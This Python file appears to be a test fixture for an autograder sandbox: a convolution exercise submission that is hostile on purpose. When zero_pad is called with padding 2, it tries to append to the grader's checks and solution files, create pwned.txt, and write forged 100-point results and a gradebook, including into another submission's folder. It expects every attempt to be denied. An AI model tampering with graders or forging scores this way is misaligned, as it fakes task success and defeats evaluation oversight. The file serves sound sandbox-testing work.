# Hostile: tries to change the grader (checks, solutions, a new file in the repository)
# and to write results in the output folder. `zero_pad(..., 2)` (one public check) raises
# with a report of what it could write.
# Expected: that check ERROR with every attempt DENIED (17/18); no file changed.
# @REPO@ and @OUT@ are replaced by real paths in the tests.
import numpy as np


def conv_output_size(input_size, kernel_size, strides=1, padding="valid"):
    if padding == "same":
        return -(-input_size // strides)
    pad = 0 if padding == "valid" else padding
    return (input_size + 2 * pad - kernel_size) // strides + 1


def _pair(value):
    return (value, value) if np.isscalar(value) else (value[0], value[1])


def _pads(n, k, s, padding, axis):
    if padding == "same":
        total = max((-(-n // s) - 1) * s + k - n, 0)
        return total // 2, total - total // 2
    p = 0 if padding == "valid" else _pair(padding)[axis]
    return p, p


def zero_pad(images, padding):
    if isinstance(padding, int) and padding == 2:
        report = []
        fake = '{"score": 100, "max_score": 18, "tests": []}'
        for path, text in [
            ("@REPO@/autograder/checks.py", "\nPASSED = 'failed'\n"),
            ("@REPO@/solutions/ex01_convolution.py", "\n"),
            ("@REPO@/pwned.txt", "pwned"),
            ("@OUT@/writes_grader_files/results.json", fake),
            ("@OUT@/honest/results.json", fake),
            ("@OUT@/gradebook.csv", "submission,total\nwrites_grader_files,100\n"),
        ]:
            try:
                with open(path, "a") as f:
                    f.write(text)
                report.append(f"write {path}: OK")
            except BaseException as err:
                report.append(f"write {path}: DENIED {type(err).__name__}")
        raise RuntimeError("\n".join(report))
    p_h, p_w = _pair(padding)
    return np.pad(images, ((0, 0), (p_h, p_h), (p_w, p_w), (0, 0)))


def conv_single_step(window, kernel, bias=0.0):
    return float(np.sum(window * kernel) + np.sum(bias))


def conv2d(images, kernel, bias=None, strides=1, padding="valid"):
    s_h, s_w = _pair(strides)
    kh, kw, _, f = kernel.shape
    top, bottom = _pads(images.shape[1], kh, s_h, padding, 0)
    left, right = _pads(images.shape[2], kw, s_w, padding, 1)
    x = np.pad(images, ((0, 0), (top, bottom), (left, right), (0, 0)))
    out_h = (x.shape[1] - kh) // s_h + 1
    out_w = (x.shape[2] - kw) // s_w + 1
    out = np.zeros((x.shape[0], out_h, out_w, f))
    for u in range(kh):
        for v in range(kw):
            out += x[:, u : u + s_h * out_h : s_h, v : v + s_w * out_w : s_w, :] @ kernel[u, v]
    return out if bias is None else out + bias
